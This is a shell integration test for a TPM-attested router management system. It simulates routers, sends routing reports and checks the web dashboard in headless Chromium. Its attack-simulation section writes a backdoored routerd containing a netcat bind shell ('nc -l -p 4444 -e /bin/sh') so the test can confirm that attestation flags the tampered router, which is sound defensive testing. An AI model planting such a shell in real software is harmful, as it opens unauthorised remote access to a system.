#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# web_dashboard.sh — the NMS dashboard in headless Chromium against a real NMS (ctest
# web_dashboard, label web).
#
# Sets up what dm_story does — a vendor with a signed digest list of a router image,
# four routers each with its own qtpm-server TPM (EK certificate from the vendor's
# factory) and qtpm-agent, enrolled and (r1-r3) attested good — plus, for r1-r3, a routing
# report (docs/ROUTING.md) sent with a router certificate of the NMS's privacy CA:
# a triangle r1-r2-r3 with OSPF costs and routes. Then web_dashboard.cjs (puppeteer-core
# from the build's web-npm, driving Debian's chromium) checks the page: no console errors,
# every router with its state on the map and in the table, r2 red within a second of its
# bad verdict (a real one: routerd replaced and measured, then attest-once), the reasons
# with file and digests, the routing table and costs, the timeline, the policy refused to
# a read-only session (disabled controls, and the server's 403 when forced) and changed
# by an operator. Screenshots go to SHOTS_DIR. A trap stops the NMS, the TPMs and
# chromium's process group, and removes the temporary directory, on any exit.
#
#   web_dashboard.sh BUILD_DIR SHOTS_DIR
set -eu
build=$(cd "$1" && pwd)
shots=$2
here=$(cd "$(dirname "$0")" && pwd)
nms=$build/src/nms/qtpm-nms
agent=$build/src/agent/qtpm-agent
dl=$build/src/attest/qtpm-digestlist
server=$build/src/server/qtpm-server
mfg=$build/src/manufacture/qtpm-manufacture
qtpm=$build/src/cli/qtpm
chromium=${CHROMIUM:-/usr/bin/chromium}
for b in "$nms" "$agent" "$dl" "$server" "$mfg" "$qtpm" "$chromium"; do
    [ -x "$b" ] || { echo "FAIL: $b is missing"; exit 1; }
done
[ -f "$build/web-npm/node_modules/puppeteer-core/package.json" ] ||
    { echo "FAIL: puppeteer-core is not installed in $build/web-npm (build target qtpm-web)"; exit 1; }

tmp=$(mktemp -d "${TMPDIR:-/tmp}/qtpm-web.XXXXXX")
pids=
cleanup() {
    if [ -f "$tmp/chromium.pid" ]; then
        cp=$(cat "$tmp/chromium.pid")
        kill -KILL -- "-$cp" 2>/dev/null || kill -KILL "$cp" 2>/dev/null || true
    fi
    for p in $pids; do kill "$p" 2>/dev/null || true; done
    for p in $pids; do wait "$p" 2>/dev/null || true; done
    rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
fail() { echo "FAIL: $*" >&2; [ -f "$tmp/nms.log" ] && tail -${WEB_LOG_LINES:-20} "$tmp/nms.log" >&2; exit 1; }
wait_port() {
    tries=0
    while ! python3 -c 'import socket,sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 0.3).close()' "$1" 2>/dev/null; do
        tries=$((tries + 1))
        [ $tries -gt 100 ] && fail "nothing listens on port $1"
        sleep 0.05
    done
}

# ---- the vendor, the NMS ----
mkdir -p "$tmp/image/usr/sbin" "$tmp/image/usr/lib/frr"
printf '#!/bin/sh\necho routerd 3.4.2\n' > "$tmp/image/usr/sbin/routerd"
printf '#!/bin/sh\necho ospfd 8.4\n' > "$tmp/image/usr/lib/frr/ospfd"
chmod 755 "$tmp/image/usr/sbin/routerd" "$tmp/image/usr/lib/frr/ospfd"
"$dl" keygen --out-dir "$tmp/vendor" >/dev/null
"$dl" build --vendor acme --image acme-router-os-1.0 --version 1 --root "$tmp/image" \
    --mldsa-key "$tmp/vendor/mldsa65.key" --ecdsa-key "$tmp/vendor/ecdsa-p384.key" \
    -o "$tmp/vendor/list.qdl" >/dev/null || fail "digest list"

routers=4 # r4 enrols and never attests: unknown to the verdicts
i=1
while [ $i -le $routers ]; do
    port=$(python3 "$here/../lib/freeport.py")
    mkdir -p "$tmp/r$i"
    "$server" --mssim --host 127.0.0.1 --port "$port" --state "$tmp/r$i/tpm" \
        > "$tmp/r$i/tpm.log" 2>&1 &
    pids="$pids $!"
    wait_port "$port"
    wait_port "$((port + 1))"
    tcti="mssim:host=127.0.0.1,port=$port"
    "$qtpm" -T "$tcti" startup -c >/dev/null || fail "startup r$i"
    "$mfg" --tcti "$tcti" --ca-dir "$tmp/vendor-ca" --alg eccp256 >/dev/null || fail "manufacture r$i"
    echo "$tcti" > "$tmp/r$i/tcti"
    i=$((i + 1))
done

"$nms" init --dir "$tmp/nms" >/dev/null || fail "nms init"
"$nms" --dir "$tmp/nms" vendor import --name acme --ca "$tmp/vendor-ca/ca-cert.pem" \
    --mldsa-pub "$tmp/vendor/mldsa65.pub" --ecdsa-pub "$tmp/vendor/ecdsa-p384.pub" >/dev/null ||
    fail "vendor import"
"$nms" --dir "$tmp/nms" digestlist add "$tmp/vendor/list.qdl" >/dev/null || fail "digestlist add"
nms_port=$(python3 "$here/../lib/freeport.py")
# --period 5: a router silent for 10 s goes offline (r4, whose only sign of life is its
# enrolment; r1-r3 send heartbeats below).
# The router certificates of router-cert.sh carry no channel-binding key
# (docs/CHANNEL.md): curl cannot bind, so they are allowed unbound here.
"$nms" serve --dir "$tmp/nms" --listen "127.0.0.1:$nms_port" --web "$build/dashboard" --period 5 --allow-unbound-routers ${QTPM_TEST_NMS_FLAGS:-} \
    > "$tmp/nms.log" 2>&1 &
nms_pid=$!
pids="$pids $nms_pid"
wait_port "$nms_port"
base="https://127.0.0.1:$nms_port"

# ---- the routers enrol and attest (good) ----
i=1
while [ $i -le $routers ]; do
    mkdir -p "$tmp/r$i/agent"
    cp -a "$tmp/image" "$tmp/r$i/image"
    cat > "$tmp/r$i/agent.conf" <<CONF
tcti = $(cat "$tmp/r$i/tcti")
nms = $base
ca = $tmp/nms/operator-ca.crt
state_dir = $tmp/r$i/agent
hostname = r$i
measure_root = $tmp/r$i/image
ima_source = own
ak = ecc
period = 300
CONF
    "$agent" enrol -c "$tmp/r$i/agent.conf" > "$tmp/r$i/enrol.log" 2>&1 ||
        { cat "$tmp/r$i/enrol.log"; fail "r$i enrol"; }
    if [ $i -le 3 ]; then
        "$agent" attest-once -c "$tmp/r$i/agent.conf" > "$tmp/r$i/attest.log" 2>&1 ||
            { cat "$tmp/r$i/attest.log"; fail "r$i attest"; }
    fi
    i=$((i + 1))
done

# ---- routing reports: a triangle r1-r2-r3, each router with a router certificate ----
# (CN = router id, OU = router, from the privacy CA, as the NMS issues them).
rid() { cat "$tmp/r$1/agent/router.id"; }
i=1
while [ $i -le $routers ]; do
    sh "$here/router-cert.sh" "$tmp/nms" "$(rid $i)" "$tmp/r$i/rc" || fail "router certificate r$i"
    i=$((i + 1))
done
python3 - "$tmp" > /dev/null <<'PY'
import json, sys
tmp = sys.argv[1]
# link (a, b, subnet): a's interface toward b is eth<b>, address 10.0.<ab>.a
links = [(1, 2), (1, 3), (2, 3)]
for r in (1, 2, 3):
    ifs, nbrs, routes = [], [], []
    for a, b in links:
        if r not in (a, b):
            continue
        other = b if r == a else a
        net = f"10.0.{a}{b}"
        ifs.append({"name": f"eth{other}", "address": f"{net}.{r}/24", "cost": 10,
                    "passive": False})
        nbrs.append({"ospf_router_id": f"10.255.0.{other}", "interface": f"eth{other}",
                     "address": f"{net}.{other}", "state": "Full"})
        routes.append({"prefix": f"10.9.{other}.0/24", "via": f"{net}.{other}",
                       "interface": f"eth{other}", "metric": 20, "protocol": "ospf"})
    rep = {"ospf_router_id": f"10.255.0.{r}", "interfaces": ifs, "neighbours": nbrs,
           "routes": routes}
    open(f"{tmp}/r{r}/report.json", "w").write(json.dumps(rep))
PY
i=1
while [ $i -le 3 ]; do
    got=$(curl --silent --max-time 10 -o "$tmp/out" -w '%{http_code}' \
        --cacert "$tmp/nms/operator-ca.crt" --cert "$tmp/r$i/rc.crt" --key "$tmp/r$i/rc.key" \
        -H 'Content-Type: application/json' --data-binary "@$tmp/r$i/report.json" \
        "$base/api/v1/routers/$(rid $i)/routing") || true
    [ "$got" = 200 ] || fail "routing report of r$i → $got $(cat "$tmp/out")"
    i=$((i + 1))
done

# Heartbeats of r1-r3 (router certificates) every second, at most 240 of them: they stay
# online while r4 falls silent.
(
    n=0
    while [ $n -lt 240 ]; do
        for i in 1 2 3; do
            curl --silent --max-time 5 -o /dev/null --cacert "$tmp/nms/operator-ca.crt" \
                --cert "$tmp/r$i/rc.crt" --key "$tmp/r$i/rc.key" \
                -H 'Content-Type: application/json' -d '{"entries": 3}' \
                "$base/api/v1/routers/$(rid $i)/heartbeat" || true
        done
        n=$((n + 1))
        sleep 1
    done
) &
pids="$! $pids"

# ---- the attack the page must see: r2's routerd replaced, measured, attested ----
cat > "$tmp/attack.sh" <<EOF
#!/bin/sh
printf '#!/bin/sh\necho routerd 3.4.2; nc -l -p 4444 -e /bin/sh\n' > "$tmp/r2/image/usr/sbin/routerd"
"$agent" attest-once -c "$tmp/r2/agent.conf" > "$tmp/r2/attack.log" 2>&1
echo "attest-once exit \$?" >> "$tmp/r2/attack.log"
exit 0
EOF
chmod 755 "$tmp/attack.sh"

mkdir -p "$shots"
# The SPKI hash of the NMS's server certificate, which chromium is told to accept.
spki=$(openssl x509 -in "$tmp/nms/server.crt" -pubkey -noout | openssl pkey -pubin -outform der |
       openssl dgst -sha256 -binary | base64)
export WEB_BASE="$base" WEB_SPKI="$spki" WEB_SHOTS="$shots" WEB_TMP="$tmp" CHROMIUM="$chromium"
WEB_OPERATOR_URL=$("$nms" login-url --dir "$tmp/nms" --role operator --listen "127.0.0.1:$nms_port")
WEB_READONLY_URL=$("$nms" login-url --dir "$tmp/nms" --role read-only --listen "127.0.0.1:$nms_port")
WEB_ROUTERS="r1=$(rid 1),r2=$(rid 2),r3=$(rid 3),r4=$(rid 4)"
WEB_ATTACK="$tmp/attack.sh" WEB_ATTACK_LOG="$tmp/r2/attack.log"
export WEB_OPERATOR_URL WEB_READONLY_URL WEB_ROUTERS WEB_ATTACK WEB_ATTACK_LOG
export WEB_CA="$tmp/nms/operator-ca.crt" WEB_RO_CERT="$tmp/nms/readonly.crt" WEB_RO_KEY="$tmp/nms/readonly.key"
# In the background and waited for, so a signal to this script runs the trap at once.
# --openssl-shared-config: node reads openssl.cnf's openssl_conf section (OPENSSL_CONF, the
# provider and the hybrid groups the NMS requires), not only its own nodejs_conf.
NODE_PATH="$build/web-npm/node_modules" timeout 150 node --openssl-shared-config \
    "$here/web_dashboard.cjs" &
driver=$!
pids="$driver $pids"
rc=0
wait "$driver" || rc=$?
[ $rc = 0 ] || fail "the dashboard test failed ($rc)"
grep -q "attest-once exit [1-9]" "$tmp/r2/attack.log" || fail "the attack was not refused by the NMS"
# The NMS stops cleanly after all that (under ASan: no leak or error at exit either).
kill -TERM "$nms_pid"
rc=0
wait "$nms_pid" || rc=$?
pids=$(echo "$pids" | sed "s/ $nms_pid\b//")
[ $rc = 0 ] || fail "the NMS exited with status $rc"
echo "web_dashboard: ok (screenshots in $shots)"
